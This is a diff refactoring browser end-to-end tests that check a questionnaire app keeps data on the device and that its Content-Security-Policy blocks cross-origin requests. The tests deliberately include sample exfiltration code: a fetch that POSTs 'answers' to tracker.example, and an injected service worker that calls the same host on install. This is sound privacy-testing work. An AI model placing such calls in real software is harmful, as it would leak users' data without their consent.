@@ -1,33 +1,19 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import type { Browser } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { vignetteFiles } from '../helpers/vignettes';
+import { describe, expect, it } from 'vitest';
+import { publicVignette } from '../helpers/vignettes';
 import { answerThroughPage } from './support/answer-through-page';
-import { launchChromium, openWatchedPage } from './support/chromium';
-import { serveBuiltApp, type ServedApp } from './support/serve-built-app';
+import { useBuiltAppInChromium } from './support/built-app';
 import { waitForServiceWorkerControl } from './support/service-worker';
 
-const vignette = vignetteFiles()['public.json']?.find((v) => v.id === 'doms-classic');
-let app: ServedApp;
-let browser: Browser;
-
-beforeAll(async () => {
-  app = await serveBuiltApp();
-  browser = await launchChromium();
-}, 180_000);
-
-afterAll(async () => {
-  await browser?.close();
-  await app?.close();
-});
+const vignette = publicVignette('doms-classic');
+const built = useBuiltAppInChromium();
 
 describe('nothing leaves the device', () => {
   it(
     'a whole questionnaire, with the service worker on, asks nothing of another origin and breaks no Content-Security-Policy rule',
     async () => {
-      if (!vignette) throw new Error('no public vignette "doms-classic"');
-      const watched = await openWatchedPage(browser, app.origin);
+      const watched = await built.openPage();
       try {
         const { page } = watched;
         await waitForServiceWorkerControl(page);
@@ -43,7 +29,7 @@ describe('nothing leaves the device', () => {
   );
 
   it('the page cannot send anything to another origin: the policy refuses before the request is made', async () => {
-    const watched = await openWatchedPage(browser, app.origin);
+    const watched = await built.openPage();
     try {
       const sent = await watched.page.evaluate(() =>
         fetch('https://tracker.example/collect', { method: 'POST', body: 'answers' }).then(
@@ -62,10 +48,10 @@ describe('nothing leaves the device', () => {
 
 describe('the watch that the end-to-end tests keep', () => {
   it('catches a service worker asking another origin', async () => {
-    const watched = await openWatchedPage(browser, app.origin);
+    const watched = await built.openPage();
     try {
       const { page } = watched;
-      await page.context().route(`${app.origin}/phones-home.js`, (route) =>
+      await page.context().route(`${built.origin}/phones-home.js`, (route) =>
         route.fulfill({
           contentType: 'text/javascript',
           body: "self.addEventListener('install', (event) => event.waitUntil(fetch('https://tracker.example/collect').catch(() => {})));",
@@ -79,7 +65,7 @@ describe('the watch that the end-to-end tests keep', () => {
   });
 
   it('reports a Content-Security-Policy violation as a console error, and the policy blocks inline scripts', async () => {
-    const watched = await openWatchedPage(browser, app.origin);
+    const watched = await built.openPage();
     try {
       const { page } = watched;
       const ran = await page.evaluate(() => {
